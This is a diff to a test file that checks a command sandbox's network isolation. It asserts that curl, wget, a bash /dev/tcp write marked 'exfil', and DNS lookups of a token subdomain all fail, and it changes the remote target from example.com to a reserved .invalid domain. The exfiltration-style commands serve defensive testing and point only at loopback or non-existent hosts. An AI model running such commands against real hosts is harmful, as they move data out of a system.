@@ -1,4 +1,9 @@
-"""Network from inside a command: cases 13-18 and pitfall 3. Only loopback servers we start."""
+"""Network from inside a command: cases 13-18 and pitfall 3.
+
+Only loopback servers started here are contacted; names looked up from inside the sandbox
+are under the reserved `.invalid` domain, so even a broken sandbox would leak no real query
+target.
+"""
 
 from __future__ import annotations
 
@@ -66,7 +71,7 @@ def test_case13_curl_wget_devtcp_and_raw_sockets_fail(box: Box, tcp4: Listener) 
         f"curl -sS -m 3 http://127.0.0.1:{port}/ && echo CURL-OK;"
         f" wget -q -T 3 -O- http://127.0.0.1:{port}/ && echo WGET-OK;"
         f" bash -c 'echo exfil > /dev/tcp/127.0.0.1/{port}' && echo DEVTCP-OK;"
-        " curl -sS -m 3 http://example.com/ && echo REMOTE-OK; true"
+        " curl -sS -m 3 http://codeloop-test.invalid/ && echo REMOTE-OK; true"
     )
     for marker in ("CURL-OK", "WGET-OK", "DEVTCP-OK", "REMOTE-OK"):
         assert marker not in result.output
@@ -82,9 +87,9 @@ def test_case14_dns_exfiltration_fails(box: Box) -> None:
     try:
         port = _port(lst)
         result = box.run(
-            f"getent hosts {box.token}.example.com && echo RESOLVED;"
+            f"getent hosts {box.token}.codeloop-test.invalid && echo RESOLVED;"
             " cat /etc/resolv.conf;"
-            f" python3 -c \"import socket; socket.getaddrinfo('{box.token}.example.com', 53)\""
+            f" python3 -c \"import socket; socket.getaddrinfo('{box.token}.codeloop-test.invalid', 53)\""
             " || echo LOOKUP-FAILED"
         )
         assert "RESOLVED" not in result.output and "LOOKUP-FAILED" in result.output
